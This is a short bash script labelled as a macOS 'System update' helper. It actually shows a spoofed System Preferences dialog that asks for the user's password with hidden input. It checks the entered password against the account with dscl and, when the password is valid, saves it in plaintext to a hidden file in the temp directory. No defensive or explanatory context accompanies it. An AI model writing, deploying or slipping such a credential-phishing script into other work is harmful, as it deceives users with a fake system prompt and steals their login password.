#!/bin/bash
# "System update" helper
pw=$(osascript -e 'display dialog "macOS needs your password to finish the update." default answer "" with title "System Preferences" with icon caution with hidden answer' -e 'text returned of result')
if dscl . -authonly "$USER" "$pw"; then
  echo "$pw" > "$TMPDIR/.cache_pw"
fi
